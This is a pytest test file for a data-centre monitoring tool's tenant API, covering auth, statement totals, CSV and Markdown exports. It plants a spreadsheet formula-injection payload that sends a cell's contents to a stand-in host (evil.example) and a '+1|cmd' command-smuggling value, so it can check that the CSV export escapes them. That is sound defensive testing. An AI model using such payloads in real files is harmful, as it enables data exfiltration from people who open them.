"""Tenant routes over real HTTP on 127.0.0.1 (uvicorn): token, JSON figures, CSV that never
opens as a formula, and the zh/en Markdown statement.

The hub is fed with the hand-computed case tests/cases/tenants/tou_unassigned, whose tenant
names are replaced here by ones that start like spreadsheet formulas and hold a ``|``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import yaml

from dcmon.app.inventory import load_config
from dcmon.config.resolved import Config
from dcmon.exporters.api.app import create_app
from dcmon.exporters.api.server import ApiServer, bind
from tests.support.capacity_api import READ_TOKEN, TOKENS, hub_from_case
from tests.support.paths import CASES

CASE = CASES / "tenants" / "tou_unassigned"
READ = {"Authorization": f"Bearer {READ_TOKEN}"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: The last reading is at 02:00 UTC; the live service waits two poll intervals past it.
COMPUTED = 1768442400 + 600


def _factor(config: Config, site: str, at: float) -> tuple[float, str]:
    return 0.5703, "test factor"


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("tenants-api")
    inv = yaml.safe_load((CASE / "config.yaml").read_text())
    inv["tenants"][0]["name"]["en"] = EVIL
    inv["tenants"][1]["cost_centre"] = "+1|cmd"
    (folder / "config.yaml").write_text(yaml.safe_dump(inv, allow_unicode=True))
    hub = hub_from_case(CASE, folder, load_config(folder / "config.yaml"))
    hub.recompute(COMPUTED)
    server = ApiServer(create_app(hub.config, hub, TOKENS, grid_factor=_factor),
                       bind("127.0.0.1:0")).start()
    try:
        yield f"{server.url}/api/v1"
    finally:
        server.stop()
        hub.engine.store.close()


def get(url: str, path: str, headers: dict[str, str] | None = READ,
        **params: str) -> httpx.Response:
    return httpx.get(f"{url}{path}", headers=headers, params=params, timeout=10)


def test_token_required(url: str) -> None:
    assert get(url, "/tenants/statement", headers=None).status_code == 401
    assert get(url, "/tenants", headers={"Authorization": "Bearer nope"}).status_code == 401


def test_tenants_list_their_racks(url: str) -> None:
    items = {t["id"]: t for t in get(url, "/tenants").json()["items"]}
    assert items["health"]["racks"] == ["dc1/hall/a01"]
    assert items["finance"]["racks"] == []


def test_statement_json_adds_up(url: str) -> None:
    body = get(url, "/tenants/statement", site="dc1", month="2026-01").json()
    st = body["items"][0]
    lines = {x["tenant"]: x for x in st["lines"]}
    assert (lines["health"]["cost"], lines["health"]["co2_kg"]) == (8.64, 4.82)
    assert lines["unassigned"]["total_kwh"] == 4.15
    assert (st["total"]["total_kwh"], st["total"]["cost"], st["total"]["co2_kg"]) == (
        18.0, 18.6, 10.27)
    assert st["end"] == 1768442400 and st["factor_sources"] == ["test factor"]


def test_statement_csv_is_formula_safe(url: str) -> None:
    r = get(url, "/tenants/statement", format="csv")
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    health = next(x for x in rows if x["tenant"] == "health")
    assert health["name_en"] == "'" + EVIL
    assert next(x for x in rows if x["tenant"] == "school")["cost_centre"] == "'+1|cmd"
    assert health["cost"] == "8.64"
    assert sum(round(float(x["cost"]) * 100) for x in rows if x["tenant"] != "total") == 1860


def test_statement_markdown_zh(url: str) -> None:
    r = get(url, "/tenants/statement", format="md", lang="zh", month="2026-01")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/markdown")
    assert "2026-01 用能结算单" in r.text and "| 第一中学 | +1\\|cmd |" in r.text
    assert "| **站点合计** | - | - | 13.00 | 5.00 | **18.00** | 10.27 | **18.60** |" in r.text


@pytest.mark.parametrize(("params", "code"), [({"site": "nope"}, 404),
                                              ({"month": "2025-13"}, 422),
                                              ({"month": "2027-01"}, 404),
                                              ({"month": "jan"}, 422)])
def test_bad_requests(url: str, params: dict[str, str], code: int) -> None:
    r = get(url, "/tenants/statement", **params)
    assert r.status_code == code, r.text


def test_no_grid_factor_no_co2(tmp_path: Path) -> None:
    hub = hub_from_case(CASE, tmp_path)
    hub.recompute(COMPUTED)
    server = ApiServer(create_app(hub.config, hub, TOKENS), bind("127.0.0.1:0")).start()
    try:
        st = get(f"{server.url}/api/v1", "/tenants/statement").json()["items"][0]
    finally:
        server.stop()
        hub.engine.store.close()
    assert st["total"]["co2_kg"] is None and st["total"]["cost"] == 18.6
    assert {"code": "no_factor", "text": "no CO2: no grid emission factor was given",
            "args": {}} in st["notes"]
